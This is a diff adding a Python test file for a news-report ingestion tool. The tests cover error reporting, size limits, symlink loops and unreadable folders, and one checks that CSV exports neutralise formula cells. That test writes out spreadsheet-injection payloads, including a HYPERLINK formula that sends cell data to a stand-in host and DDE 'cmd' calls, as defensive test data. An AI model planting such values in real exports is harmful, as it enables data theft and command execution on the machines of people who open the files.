@@ -1,0 +1,159 @@
+"""Hostile and awkward input (issue 11, points 7-10 and 16-19): hangs, memory, honest problem lines.
+
+Every server here listens on 127.0.0.1 only. Names and places are invented.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import os
+import shutil
+import subprocess
+import sys
+import tempfile
+from pathlib import Path
+
+import pytest
+from typer.testing import CliRunner
+
+from forcewatch.cli import app
+from forcewatch.errors import Problem
+from forcewatch.ingest import read_sources
+from forcewatch.ingest.sources import MAX_BYTES, expand_paths
+from forcewatch.model import Article
+
+REPO = Path(__file__).resolve().parents[1]
+EXAMPLES = REPO / "examples" / "corpus"
+runner = CliRunner()
+
+BODY = (
+    "A man died after he was shot by police officers in Marrowby on Saturday night, the force said.\n\n"
+    "Officers from Northshire Police were called to a house in Pellow Street at about 21:40 after reports of a man"
+    " armed with a knife. The Independent Office for Police Conduct is investigating and appealed for witnesses."
+)
+
+
+def _read(paths: list[str]) -> tuple[list[Article], list[Problem]]:
+    items = list(read_sources(paths))
+    return [i for i in items if isinstance(i, Article)], [i for i in items if isinstance(i, Problem)]
+
+
+# --- 18: one problem, one line; MiB; symlink loops and unreadable folders ----------------------
+
+
+def test_problem_lines_do_not_wrap_when_stderr_is_a_file(tmp_path):
+    deep = tmp_path / ("a-folder-with-a-long-name-" * 4) / ("and-another-long-one-" * 3)
+    deep.mkdir(parents=True)
+    empty = deep / "report-of-the-northshire-inquiry-into-the-marrowby-pursuit.txt"
+    empty.write_text("")
+    with open(tmp_path / "stderr.txt", "w") as errfile:
+        done = subprocess.run(
+            [sys.executable, "-m", "forcewatch.cli", "ingest", str(empty), "--db", str(tmp_path / "x.db")],
+            stderr=errfile,
+            stdout=subprocess.PIPE,
+            env={**os.environ, "PYTHONPATH": str(REPO), "COLUMNS": "80"},
+            timeout=120,
+        )
+    assert done.returncode == 2
+    lines = (tmp_path / "stderr.txt").read_text().splitlines()
+    problem = [line for line in lines if "FW001" in line]
+    assert len(problem) == 1, lines
+    assert str(empty) in problem[0] and len(problem[0]) > 200
+
+
+def test_too_large_file_speaks_mib_like_its_limit(tmp_path):
+    big = tmp_path / "big.txt"
+    with open(big, "wb") as out:
+        out.truncate(21 * 2**20)  # sparse: 21 MiB of NULs without writing them
+    _, problems = _read([str(big)])
+    assert MAX_BYTES == 20 * 2**20
+    assert [p.code for p in problems] == ["FW004"]
+    assert problems[0].detail == "21.0 MiB, the limit is 20 MiB"
+
+
+def test_symlink_loops_are_named_not_skipped(tmp_path):
+    top = tmp_path / "corpus"
+    (top / "inner").mkdir(parents=True)
+    (top / "inner" / "report.txt").write_text(BODY)
+    (top / "inner" / "back-up").symlink_to(top, target_is_directory=True)  # a folder loop
+    (top / "ping.txt").symlink_to(top / "pong.txt")  # a file loop
+    (top / "pong.txt").symlink_to(top / "ping.txt")
+    (top / "gone.txt").symlink_to(top / "never-there.txt")
+    items = list(expand_paths([str(top)]))
+    files = [i for i in items if isinstance(i, str)]
+    problems = {Path(p.source).name: p for p in items if isinstance(p, Problem)}
+    assert files == [str(top / "inner" / "report.txt")]
+    assert set(problems) == {"back-up", "ping.txt", "pong.txt", "gone.txt"}
+    assert all(p.code == "FW007" for p in problems.values())
+    assert "symlink loop" in problems["back-up"].detail and str(top) in problems["back-up"].detail
+    assert "symlink loop" in problems["ping.txt"].detail
+    assert "broken symlink" in problems["gone.txt"].detail
+
+
+def test_unreadable_folder_is_named(tmp_path):
+    top = Path(tempfile.mkdtemp(dir="/tmp"))  # not under pytest's 0700 tree: the lesser user must reach it
+    try:
+        os.chmod(top, 0o755)
+        (top / "open").mkdir()
+        (top / "open" / "report.txt").write_text(BODY)
+        os.chmod(top / "open" / "report.txt", 0o644)
+        (top / "locked").mkdir()
+        (top / "locked" / "hidden.txt").write_text(BODY)
+        os.chmod(top / "locked", 0)
+        if os.geteuid() == 0:  # root reads anything: list the folder as nobody, as a real user would
+            os.seteuid(65534)
+            try:
+                items = list(expand_paths([str(top)]))
+            finally:
+                os.seteuid(0)
+        else:
+            items = list(expand_paths([str(top)]))
+    finally:
+        os.chmod(top / "locked", 0o755)
+        shutil.rmtree(top)
+    assert [i for i in items if isinstance(i, str)] == [str(top / "open" / "report.txt")]
+    problems = [i for i in items if isinstance(i, Problem)]
+    assert [(p.source, p.code) for p in problems] == [(str(top / "locked"), "FW007")]
+    assert "folder unreadable" in problems[0].detail and "Permission denied" in problems[0].detail
+
+
+# --- 19: CLI CSV exports neutralise formula cells --------------------------------------------
+
+
+@pytest.fixture(scope="module")
+def example_db(tmp_path_factory):
+    db = str(tmp_path_factory.mktemp("db") / "fw.db")
+    result = runner.invoke(app, ["ingest", str(EXAMPLES), "--db", db, "--ingested-on", "2026-11-23"])
+    assert result.exit_code == 0, result.output
+    return db
+
+
+FORMULAS = {
+    "subject_name": '=HYPERLINK("http://evil.invalid/?x="&A1,"Ashby")',
+    "region": "+cmd|' /C calc'!A0",
+    "locality": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "agency": "-2+3+cmd|' /C calc'!A0",
+}
+
+
+def test_cli_csv_exports_neutralise_formula_cells(example_db, tmp_path):
+    from forcewatch.store.db import Store
+
+    store = Store(example_db)
+    for field, value in FORMULAS.items():
+        store.review(1, field, value, "tester", "a hostile value")
+    for fmt, column_of in (
+        ("csv", {f: f for f in FORMULAS}),
+        ("wapo", {"subject_name": "name", "region": "state", "locality": "city", "agency": "agency_ids"}),
+    ):
+        out = tmp_path / f"{fmt}.csv"
+        result = runner.invoke(app, ["export", "--db", example_db, "--format", fmt, "-o", str(out)])
+        assert result.exit_code == 0, result.output
+        rows = {r["id"]: r for r in csv.DictReader(io.StringIO(out.read_text()))}
+        for field, value in FORMULAS.items():
+            assert rows["1"][column_of[field]] == "'" + value, (fmt, field)
+    # numbers stay numbers: a negative longitude is no formula (only text is prefixed)
+    from forcewatch.csvsafe import safe_cell
+
+    assert safe_cell(-1.78) == -1.78 and safe_cell("Marrowby") == "Marrowby"
